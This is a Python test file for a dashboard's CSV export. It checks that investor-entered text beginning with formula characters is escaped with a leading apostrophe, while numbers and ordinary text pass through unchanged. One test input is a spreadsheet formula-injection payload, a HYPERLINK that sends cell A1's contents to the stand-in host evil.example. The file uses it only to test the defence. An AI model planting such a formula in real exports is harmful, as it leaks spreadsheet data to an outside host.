"""The dashboard's CSV exports carry investors' words: a spreadsheet must read them as text, never as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from escalation.analytics import report


def _cells(rows: list[list[Any]]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(report.to_csv(rows))))


def test_a_question_that_looks_like_a_formula_is_exported_as_text() -> None:
    asked = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1 buy", "-2+3", "@SUM(A1)", "\tx", "\r=x"]
    [row] = _cells([asked])
    assert row == ["'" + cell for cell in asked]


def test_numbers_and_ordinary_text_are_exported_as_they_are() -> None:
    assert _cells([["when does money arrive?", -0.5, 3, None]]) == [["when does money arrive?", "-0.5", "3", ""]]
